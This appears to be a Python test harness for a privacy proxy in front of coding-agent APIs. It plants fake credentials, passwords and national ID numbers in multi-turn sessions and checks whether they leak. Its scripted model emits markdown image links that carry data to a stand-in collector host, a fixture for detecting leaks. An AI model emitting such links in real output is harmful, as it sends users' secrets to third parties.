"""Coding agents at work: sessions of sixteen turns whose whole history is sent again each time, with values planted.

The model is scripted: it quotes what it was sent, in its thinking, its text, its tool's arguments (JSON in JSON too) and in
links to a stranger. The client keeps what it got, as agents do: thinking as it came and signed, everything else restored;
tools read back files that were written from the thinking, so that surrogates stand in them.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

PROTOCOLS = ("messages", "chat", "responses")
PATHS = {"messages": "/v1/messages", "chat": "/v1/chat/completions", "responses": "/v1/responses"}
TALK = {"messages": "messages", "chat": "messages", "responses": "input"}
TURNS = 16
STRANGER = "https://collect.passerby-pixels.net/p.gif?d="

COMPANY = (
    ("Vantrell", "org"), ("솔누리은행", "org"), ("Quillmark", "product"), ("나루온", "product"), ("TB_VT_LEDGER_M", "db_object"),
    ("vantrell-prd-db07", "host"), ("com.vantrell.quillmark", "package"), ("vantrell.internal", "domain"), ("VTPRD", "database"),
    ("도하랑", "person"), ("Harlan Ossery", "person"), ("QMK", "ticket"), ("418839920117", "account"),
)  # fmt: skip


def lexicon() -> str:
    """The company's words as JSON lines."""
    return "\n".join(json.dumps({"term": term, "kind": kind}, ensure_ascii=False) for term, kind in COMPANY)


def planted(session: int) -> list[str]:
    """Eighteen values of one session."""
    n = 17 + session * 13
    return [
        f"10.61.{n}.{n + 4}", f"vantrell-prd-db0{session + 1}", f"{n}8839920117"[:12].ljust(12, "4"), f"010-{4300 + n}-77{n}",
        f"oss{n}.ery@vantrell.internal", "AK" + "IA" + f"Q3EGVWSY{n}ZX2K4M"[:16].ljust(16, "Q"), f"QMK-{700 + n}", "도하랑", "Harlan Ossery",
        "Vantrell", "솔누리은행", "나루온", "TB_VT_LEDGER_M", "com.vantrell.quillmark", f"svc{n}.vantrell.internal", "VTPRD",
        f"9004{n % 28 + 1:02}-1{n}4567", f"W1nt3r#{n}kp!x",
    ]  # fmt: skip


def lines(session: int, turn: int) -> list[str]:
    """What a tool gives in one turn: files, logs, queries; each line with planted values."""
    v = planted(session)
    account = v[2]
    pool = [
        f"2026-03-02 11:0{turn % 10}:14 ERROR {v[1]} connection refused from {v[0]} (attempt {turn})",
        f"SELECT * FROM {v[12]} WHERE owner = '{v[8]}' AND ticket = '{v[6]}'; -- {turn}",
        f"image: {account}.dkr.ecr.ap-northeast-2.amazonaws.com/quillmark:1.{turn}",
        f"{v[9]} on-call {v[8]} <{v[4]}> phone {v[3]}",
        f"{v[10]} 담당 {v[7]} 과장님, {v[11]} 서버 점검 {turn}차",
        f"spring.datasource.url=jdbc:postgresql://{v[14]}:5432/{v[15]}?user=qm&password={v[17]}",
        f"aws_access_key_id = {v[5]}",
        f"at {v[13]}.Ledger.post(Ledger.java:{100 + turn})",
        f"주민번호 {v[16]} 확인 요청 by {v[8]}: fix {v[6]}",
        f"account_id: {account} region: ap-northeast-2 host: {v[14]}",
    ]
    return [pool[(turn * 3 + step) % len(pool)] for step in range(4)]


def planted_in(session: int, text: str) -> list[str]:
    """Which of a session's values stand in a text, in any letter case."""
    low = text.lower()
    return [value for value in planted(session) if value.lower() in low]


def reply(seen: list[str], turn: int) -> dict[str, Any]:
    """What the model says about the lines that it was sent."""
    first, second, last = seen[0], seen[1 % len(seen)], seen[-1]
    said = f"I looked at it: {second}\n확인했습니다: {first}\n- {last}"
    if turn % 4 == 3:
        said += f"\n![p]({STRANGER}{second.split()[-1]})"
    plain = turn % 2 == 1
    deep = json.dumps({"why": second, "deep": json.dumps([last], ensure_ascii=not plain)}, ensure_ascii=not plain)
    arguments = {"path": f"notes/{turn}.md", "content": f"{first}\n{last}\n", "meta": deep}
    return {"thinking": f"The user shows: {first} and then {last}", "text": said, "arguments": arguments}


def _seal(text: str, turn: int) -> str:
    digest = hashlib.sha512(text.encode()).digest()
    return digest.hex() if turn % 2 else base64.b64encode(digest * 2).decode()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Upstream

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def do_POST(self) -> None:
        """Answer as the model."""
        raw = self.rfile.read(int(self.headers["content-length"]))
        self.server.bodies.append(raw)
        body = json.loads(raw)
        protocol = next(name for name, path in PATHS.items() if self.path.startswith(path))
        answered = ("type", "function_call") if protocol == "responses" else ("role", "assistant")
        turn = sum(1 for item in body[TALK[protocol]] if item.get(answered[0]) == answered[1])
        made = reply(_last_lines(protocol, body), turn)
        data = json.dumps(_whole(protocol, made, turn), ensure_ascii=False).encode()
        kind = "application/json"
        if body.get("stream"):
            kind, data = "text/event-stream", b"".join(_events(protocol, made, turn))
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


class Upstream(ThreadingHTTPServer):
    """The model's side."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.bodies: list[bytes] = []

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self.server_address[1]}"


@contextmanager
def upstream() -> Iterator[Upstream]:
    """A running model's side."""
    server = Upstream()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def _last_lines(protocol: str, body: dict[str, Any]) -> list[str]:
    item = next(
        one
        for one in reversed(body[TALK[protocol]])
        if one.get("role") in ("user", "tool") or one.get("type") == "function_call_output"
    )
    content = item.get("output") or item["content"]
    if isinstance(content, list):
        content = content[0].get("text") or content[0].get("content")
    return [line for line in str(content).split("\n") if line]


def _call(turn: int) -> str:
    return f"call_{hashlib.md5(str(turn).encode()).hexdigest()[:24]}"


def _whole(protocol: str, made: dict[str, Any], turn: int) -> dict[str, Any]:
    arguments = json.dumps(made["arguments"], ensure_ascii=turn % 2 == 0)
    if protocol == "messages":
        content = [
            {"type": "thinking", "thinking": made["thinking"], "signature": _seal(made["thinking"], turn)},
            {"type": "text", "text": made["text"]},
            {"type": "tool_use", "id": "toolu_" + _call(turn)[5:], "name": "write_file", "input": made["arguments"]},
        ]
        return {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": content, "stop_reason": "tool_use",
                "usage": {"input_tokens": 1, "output_tokens": 1}}  # fmt: skip
    if protocol == "chat":
        call = {"id": _call(turn), "type": "function", "function": {"name": "write_file", "arguments": arguments}}
        message = {"role": "assistant", "content": made["text"], "tool_calls": [call]}
        return {"id": "c", "object": "chat.completion", "model": "m", "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}
    output = [
        {"type": "reasoning", "id": "rs_" + _call(turn)[5:], "summary": [], "encrypted_content": _seal(made["thinking"], 0)},
        {"type": "message", "id": "msg_" + _call(turn)[5:], "role": "assistant", "status": "completed",
         "content": [{"type": "output_text", "text": made["text"], "annotations": []}]},
        {"type": "function_call", "id": "fc_" + _call(turn)[5:], "call_id": _call(turn), "name": "write_file", "arguments": arguments, "status": "completed"},
    ]  # fmt: skip
    return {"id": "resp_" + _call(turn)[5:], "object": "response", "model": "m", "status": "completed", "output": output}


def _pieces(text: str, size: int = 7) -> Iterator[str]:
    for at in range(0, len(text), size):
        yield text[at : at + size]


def _events(protocol: str, made: dict[str, Any], turn: int) -> Iterator[bytes]:
    """The same as server-sent events, in small pieces."""

    def event(node: dict[str, Any], name: str = "") -> bytes:
        head = f"event: {name}\n" if name else ""
        return f"{head}data: {json.dumps(node, ensure_ascii=False)}\n\n".encode()

    arguments = json.dumps(made["arguments"], ensure_ascii=turn % 2 == 0)
    if protocol == "chat":
        for piece in _pieces(made["text"]):
            yield event({"id": "c", "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
        begin = {"index": 0, "id": _call(turn), "type": "function", "function": {"name": "write_file", "arguments": ""}}
        yield event({"id": "c", "choices": [{"index": 0, "delta": {"tool_calls": [begin]}, "finish_reason": None}]})
        for piece in _pieces(arguments):
            delta = {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}
            yield event({"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
        yield event({"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
        yield b"data: [DONE]\n\n"
        return
    if protocol == "responses":
        whole = _whole(protocol, made, turn)
        yield event({"type": "response.created", "sequence_number": 0, "response": {**whole, "output": []}}, "response.created")
        number = 1
        for kind, place, text in (("output_text", 1, made["text"]), ("function_call_arguments", 2, arguments)):
            item = whole["output"][place]["id"]
            for piece in _pieces(text):
                node = {"type": f"response.{kind}.delta", "item_id": item, "output_index": place, "content_index": 0, "delta": piece, "sequence_number": number}
                number += 1
                yield event(node, node["type"])
        yield event({"type": "response.completed", "response": whole, "sequence_number": number}, "response.completed")
        return
    blocks = _whole(protocol, made, turn)["content"]
    start = {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": [], "usage": {"input_tokens": 1, "output_tokens": 1}}
    yield event({"type": "message_start", "message": start}, "message_start")
    empty = ({"type": "thinking", "thinking": "", "signature": ""}, {"type": "text", "text": ""}, {**blocks[2], "input": {}})
    parts = (("thinking_delta", "thinking", made["thinking"]), ("text_delta", "text", made["text"]), ("input_json_delta", "partial_json", arguments))
    for index, (kind, key, text) in enumerate(parts):
        yield event({"type": "content_block_start", "index": index, "content_block": empty[index]}, "content_block_start")
        for piece in _pieces(text):
            yield event({"type": "content_block_delta", "index": index, "delta": {"type": kind, key: piece}}, "content_block_delta")
        if kind == "thinking_delta":
            delta = {"type": "signature_delta", "signature": blocks[0]["signature"]}
            yield event({"type": "content_block_delta", "index": index, "delta": delta}, "content_block_delta")
        yield event({"type": "content_block_stop", "index": index}, "content_block_stop")
    yield event({"type": "message_delta", "delta": {"stop_reason": "tool_use"}}, "message_delta")
    yield event({"type": "message_stop"}, "message_stop")


@dataclass
class Played:
    """How a session went."""

    turns: int = 0
    failed: list[str] = field(default_factory=list)
    left: set[str] = field(default_factory=set)
    """Planted values that left."""
    inexact: list[str] = field(default_factory=list)
    """What did not come back as it should: the turn, and what of it."""
    changed: list[int] = field(default_factory=list)
    """Turns whose beginning differs from what left before."""
    urls: int = 0
    """Originals in addresses of strangers."""


class Client:
    """An agent: keeps its history and sends all of it each time."""

    def __init__(self, url: str, protocol: str, session: int) -> None:
        self._address = urlsplit(url)
        self._protocol, self._session = protocol, session
        self.history: list[dict[str, Any]] = []
        self._notes: tuple[str, str] | None = None
        """A line of a file that was written with surrogates, and what it stands for."""

    def play(self, server: Upstream, turns: int = TURNS) -> Played:
        """All turns of a session."""
        played = Played()
        before: list[Any] = []
        expected = [f"Please look into {planted(self._session)[6]}:", *lines(self._session, 0)]
        self._tell("\n".join(expected), 0)
        for turn in range(turns):
            played.turns += 1
            stream = turn % 2 == 1
            server.bodies.clear()
            status, data = self._ask(stream)
            if status != 200:
                played.failed.append(f"turn {turn}: {status} {data[:300].decode('utf-8', 'replace')}")
                return played
            body = server.bodies[-1].decode()
            played.left.update(planted_in(self._session, body))
            now = json.loads(body)[TALK[self._protocol]]
            if now[: len(before)] != before:
                played.changed.append(turn)
            before = now
            got = self._read(data, stream)
            wanted = reply(expected, turn)
            played.inexact += [f"turn {turn}: {what}" for what in self._differs(got, wanted)]
            played.urls += len(planted_in(self._session, got["text"].partition(STRANGER)[2]))
            self._keep(got, turn)
            self._note(got, wanted)
            expected = lines(self._session, turn + 1)
            read_back, means = self._notes if self._notes and turn % 3 == 2 else ("", "")
            self._tell("\n".join([*expected, *([read_back] if means else [])]), turn + 1)
            expected += [means] if means else []
        return played

    def _note(self, got: dict[str, Any], wanted: dict[str, Any]) -> None:
        """Write down what came with surrogates: thinking, or the end of a stranger's address."""
        if got["thinking"]:
            self._notes = (got["thinking"], wanted["thinking"])
        elif STRANGER in got["text"]:
            self._notes = tuple(f"see {text.partition(STRANGER)[2][:-1]} there" for text in (got["text"], wanted["text"]))  # type: ignore[assignment]

    @staticmethod
    def _differs(got: dict[str, Any], wanted: dict[str, Any]) -> list[str]:
        """What did not come back as it was."""
        same = got["text"].partition(STRANGER)[0] == wanted["text"].partition(STRANGER)[0]
        return ([] if same else ["text"]) + ([] if json.loads(got["arguments"]) == wanted["arguments"] else ["arguments"])

    def _tell(self, text: str, turn: int) -> None:
        if self._protocol == "messages":
            if turn:
                result = {"type": "tool_result", "tool_use_id": "toolu_" + _call(turn - 1)[5:], "content": text}
                self.history.append({"role": "user", "content": [result]})
            else:
                self.history.append({"role": "user", "content": [{"type": "text", "text": text}]})
        elif self._protocol == "chat":
            self.history.append({"role": "tool", "tool_call_id": _call(turn - 1), "content": text} if turn else {"role": "user", "content": text})
        elif turn:
            self.history.append({"type": "function_call_output", "call_id": _call(turn - 1), "output": text})
        else:
            self.history.append({"role": "user", "content": [{"type": "input_text", "text": text}]})

    def _ask(self, stream: bool) -> tuple[int, bytes]:
        body: dict[str, Any] = {"model": "m", "stream": stream}
        schema = {"type": "object", "properties": {"path": {"type": "string"}, "content": {"type": "string"}, "meta": {"type": "string"}}}
        if self._protocol == "messages":
            body |= {"max_tokens": 1000, "system": "You are a coding agent for Vantrell.", "tools": [{"name": "write_file", "description": "Writes a file.", "input_schema": schema}]}
        elif self._protocol == "chat":
            body |= {"tools": [{"type": "function", "function": {"name": "write_file", "parameters": schema}}]}
        else:
            body |= {"instructions": "You are a coding agent.", "store": False, "tools": [{"type": "function", "name": "write_file", "parameters": schema}]}
        body[TALK[self._protocol]] = self.history
        connection = http.client.HTTPConnection(self._address.hostname or "", self._address.port, timeout=120)
        try:
            headers = {"content-type": "application/json", "anthropic-version": "2023-06-01", "x-api-key": "k"}
            connection.request("POST", PATHS[self._protocol], json.dumps(body, ensure_ascii=False).encode(), headers)
            answer = connection.getresponse()
            return answer.status, answer.read()
        finally:
            connection.close()

    def _read(self, data: bytes, stream: bool) -> dict[str, Any]:
        """What the client sees of an answer."""
        if stream:
            nodes = [json.loads(line[6:]) for line in data.decode().split("\n") if line.startswith("data: {")]
            return _gathered(self._protocol, nodes)
        whole = json.loads(data)
        if self._protocol == "messages":
            thinking, text, call = whole["content"]
            return {"thinking": thinking["thinking"], "seal": thinking["signature"], "text": text["text"], "arguments": json.dumps(call["input"])}
        if self._protocol == "chat":
            message = whole["choices"][0]["message"]
            return {"thinking": "", "text": message["content"], "arguments": message["tool_calls"][0]["function"]["arguments"]}
        _, message, call = whole["output"]
        return {"thinking": "", "text": message["content"][0]["text"], "arguments": call["arguments"]}

    def _keep(self, got: dict[str, Any], turn: int) -> None:
        """Put an answer into the history, as agents do."""
        made = {"thinking": got["thinking"], "text": got["text"], "arguments": json.loads(got["arguments"])}
        whole = _whole(self._protocol, made, turn)
        if self._protocol == "messages":
            whole["content"][0]["signature"] = got["seal"]
            self.history.append({"role": "assistant", "content": whole["content"]})
        elif self._protocol == "chat":
            message = whole["choices"][0]["message"]
            message["tool_calls"][0]["function"]["arguments"] = got["arguments"]
            self.history.append(message)
        else:
            whole["output"][2]["arguments"] = got["arguments"]
            self.history += whole["output"]


def _gathered(protocol: str, nodes: list[dict[str, Any]]) -> dict[str, Any]:
    out = {"thinking": "", "seal": "", "text": "", "arguments": ""}
    for node in nodes:
        if protocol == "chat":
            for choice in node["choices"]:
                delta = choice["delta"]
                out["text"] += delta.get("content") or ""
                for call in delta.get("tool_calls", ()):
                    out["arguments"] += call["function"].get("arguments", "")
        elif protocol == "responses":
            key = {"response.output_text.delta": "text", "response.function_call_arguments.delta": "arguments"}.get(node["type"])
            if key:
                out[key] += node["delta"]
        elif node["type"] == "content_block_delta":
            delta = node["delta"]
            for kind, key, name in (("thinking_delta", "thinking", "thinking"), ("signature_delta", "signature", "seal"),
                                    ("text_delta", "text", "text"), ("input_json_delta", "partial_json", "arguments")):  # fmt: skip
                if delta["type"] == kind:
                    out[name] += delta[key]
    return out
